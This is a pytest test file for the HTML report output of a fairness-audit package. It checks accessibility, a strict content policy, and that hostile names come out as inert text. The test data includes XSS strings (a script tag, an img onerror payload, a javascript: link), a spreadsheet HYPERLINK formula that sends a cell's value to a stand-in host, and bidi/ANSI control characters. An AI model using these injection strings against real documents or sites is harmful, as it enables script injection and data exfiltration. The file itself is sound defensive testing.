import base64
import dataclasses
import hashlib
import itertools
import re
from html.parser import HTMLParser

import pytest

from fairaudit.report import key_table_html, to_html
from fairaudit.report.html import style_sheet

VOID = {"meta", "link", "br", "img", "hr", "input"}


class Page(HTMLParser):
    """Elements with their attributes, text, and whether every element is closed in order."""

    def __init__(self, text):
        super().__init__()
        self.elements, self.words, self.open, self.wrong = [], [], [], []
        self.feed(text)

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, dict(attrs)))
        if tag not in VOID:
            self.open.append(tag)

    def handle_endtag(self, tag):
        if not self.open or self.open.pop() != tag:
            self.wrong.append(tag)

    def handle_data(self, data):
        if not self.open or self.open[-1] != "style":
            self.words.append(data)

    def all(self, tag):
        return [attrs for name, attrs in self.elements if name == tag]


@pytest.fixture(scope="module")
def text(sample):
    return to_html(sample)


@pytest.fixture(scope="module")
def page(text):
    return Page(text)


def test_every_element_is_closed(page):
    assert (page.wrong, page.open) == ([], [])


def test_the_page_has_a_language_one_heading_a_skip_link_and_landmarks(page):
    assert page.all("html")[0]["lang"] == "en"
    assert len(page.all("h1")) == len(page.all("main")) == len(page.all("nav")) == 1
    assert page.all("a")[0] == {"class": "skip", "href": "#limits"}
    names = [attrs["id"] for _, attrs in page.elements if "id" in attrs]
    assert len(names) == len(set(names))
    assert {attrs["href"] for attrs in page.all("a")} <= {f"#{name}" for name in names}
    labelled = {attrs["aria-labelledby"] for _, attrs in page.elements if "aria-labelledby" in attrs}
    assert labelled <= set(names)


def test_headings_skip_no_level(page):
    levels = [int(tag[1]) for tag, _ in page.elements if re.fullmatch("h[1-6]", tag)]
    assert all(after <= before + 1 for before, after in itertools.pairwise(levels))


def test_every_table_has_a_caption_scopes_and_a_region_that_takes_the_keyboard(page):
    tables = len(page.all("table"))
    regions = [attrs for attrs in page.all("div") if attrs.get("role") == "group"]
    assert tables == len(page.all("caption")) > 20
    assert len(regions) == tables + len(page.all("figure"))
    assert all(attrs["tabindex"] == "0" for attrs in regions)
    assert all(attrs.get("scope") in {"col", "row"} for attrs in page.all("th"))


def test_nothing_is_fetched_and_nothing_runs(text, page):
    tags = {tag for tag, _ in page.elements}
    assert not tags & {"script", "link", "img", "iframe", "object", "form", "base"}
    assert not any(name.startswith("on") or name in {"src", "style"} for _, attrs in page.elements for name in attrs)
    # What is cut off in a picture is named by a place in that picture.
    assert not re.search(r"url\((?!#chart-\d+-\d+\))", text)
    assert "@import" not in text


def test_the_content_policy_allows_exactly_the_style_of_the_page(text, page):
    policy = next(a["content"] for a in page.all("meta") if a.get("http-equiv") == "Content-Security-Policy")
    style = re.search("<style>(.*?)</style>", text, re.DOTALL)[1]
    digest = base64.b64encode(hashlib.sha256(style.encode()).digest()).decode()
    assert policy == f"default-src 'none'; style-src 'sha256-{digest}'; base-uri 'none'; form-action 'none'"


def test_a_status_is_a_word_and_a_shape(text):
    for shape, word in (("▲", "Flagged"), ("●", "Within the line"), ("?", "Insufficient evidence")):
        assert f'<span aria-hidden="true">{shape}</span> {word}</span>' in text


def test_the_same_result_gives_the_same_bytes(sample, text):
    assert to_html(sample) == text


_OF_PICTURES = {
    "figure",
    "div",
    "svg",
    "g",
    "path",
    "line",
    "rect",
    "text",
    "defs",
    "clippath",
    "figcaption",
    "strong",
    "span",
}
_SAID_OF_PICTURES = {
    "id", "class", "role", "tabindex", "aria-labelledby", "aria-hidden", "xmlns", "viewbox", "fill", "stroke", "d",
    "transform", "x", "y", "x1", "x2", "y1", "y2", "width", "height", "text-anchor", "font-size", "font-weight",
    "opacity", "fill-opacity", "stroke-width", "stroke-dasharray", "stroke-opacity", "clip-path",
}  # fmt: skip


def _without_figures(text):
    """Return a page without its pictures, whose shapes depend on how long names are, and the pictures."""
    figure = re.compile("<figure>.*?</figure>", re.DOTALL)
    return Page(figure.sub("", text)), [Page(found) for found in figure.findall(text)]


@pytest.mark.parametrize("render", [to_html, key_table_html])
def test_hostile_names_are_text(render, sample, hostile):
    (before, _), (after, drawn) = (_without_figures(render(result)) for result in (sample, hostile))
    assert bool(drawn) == (render is to_html)
    for tag, attrs in (element for figure in drawn for element in figure.elements):
        assert tag in _OF_PICTURES
        assert {*attrs} <= _SAID_OF_PICTURES
    assert (after.wrong, after.open) == ([], [])
    # The same elements with the same attributes: the names made none.
    assert [e for e in after.elements if e[0] != "meta"] == [e for e in before.elements if e[0] != "meta"]
    shown = "".join(after.words)
    assert "<script>alert(1)</script>" in shown
    assert '=HYPERLINK("http://evil.example/?"&A1,"click")' in shown
    assert "a|b`c d **bold** [x](javascript:alert(1)) <img src=x onerror=alert(1)> @all" in shown


def test_characters_that_turn_text_around_are_made_visible(sample):
    schema = dataclasses.replace(sample.schema, decision_text="approved\u202e\x1b[31m\x00")
    text = to_html(dataclasses.replace(sample, schema=schema))
    assert "approved\ufffd\ufffd[31m\ufffd" in text


def test_eight_groups_by_twelve_metrics_stay_below_500_kilobytes(sample):
    metrics = [
        "selection_rate", "adverse_rate", "true_positive_rate", "false_negative_rate", "false_positive_rate",
        "true_negative_rate", "positive_predictive_value", "false_discovery_rate", "negative_predictive_value",
        "false_omission_rate", "accuracy", "balanced_accuracy",
    ]  # fmt: skip
    groups = [f"a group with a long name, number {i}" for i in range(8)]
    attribute = dataclasses.replace(sample.schema.attributes[0], levels=dict.fromkeys(groups, 100), reference=groups[0])
    rates = [dataclasses.replace(sample.rates[0], metric=m, group=g, value=0.5) for m in metrics for g in groups]
    ratio = next(finding for finding in sample.findings if finding.sensitivity)
    findings = [dataclasses.replace(ratio, group=g, metric="adverse_impact_ratio") for g in groups[1:] for _ in metrics]
    schema = dataclasses.replace(sample.schema, attributes=[attribute])
    made = to_html(dataclasses.replace(sample, schema=schema, rates=rates, findings=findings))
    assert all(made.count(group) > len(metrics) / 4 for group in groups)
    assert len(made.encode()) < 500_000
    assert len(to_html(sample).encode()) < 500_000


# Colours


def _schemes():
    css = str(style_sheet("report.css"))
    for block in re.findall(r":root \{(.*?)\}", css, re.DOTALL):
        yield dict(re.findall(r"--([\w]+): (#[0-9a-f]{3,6})", block))


def _luminance(colour):
    digits = colour[1:] if len(colour) == 7 else "".join(2 * c for c in colour[1:])
    parts = [int(digits[i : i + 2], 16) / 255 for i in (0, 2, 4)]
    linear = [c / 12.92 if c <= 0.04045 else ((c + 0.055) / 1.055) ** 2.4 for c in parts]
    return 0.2126 * linear[0] + 0.7152 * linear[1] + 0.0722 * linear[2]


def test_text_stands_out_by_4_5_to_1_on_light_dark_and_paper():
    # WCAG 2.2, success criterion 1.4.3, and its definition of relative luminance.
    schemes = list(_schemes())
    assert len(schemes) == 3
    for scheme in schemes:
        for name in ("ink", "quiet", "link", "flag", "within_line", "insufficient", "info"):
            for ground in ("paper", "panel"):
                light, dark = sorted((_luminance(scheme[name]), _luminance(scheme[ground])), reverse=True)
                assert (light + 0.05) / (dark + 0.05) >= 4.5, (name, ground)


# The notebook's table


def test_the_notebook_table_styles_nothing_but_itself(sample):
    text = key_table_html(sample)
    style = re.search("<style>(.*?)</style>", text, re.DOTALL)[1]
    for selector in re.findall(r"([^{}]+)\{", style):
        assert all(part.strip().startswith(".fairaudit-key-table") for part in selector.split(","))
    assert Page(text).elements[0] == ("div", {"class": "fairaudit-key-table"})


def test_the_notebook_table_holds_the_primary_findings_only(sample):
    page = Page(key_table_html(sample))
    rows = [attrs for attrs in page.all("th") if attrs["scope"] == "row"]
    assert len(rows) == sum(finding.family == "primary" for finding in sample.findings)
    assert not any("id" in attrs for _, attrs in page.elements)
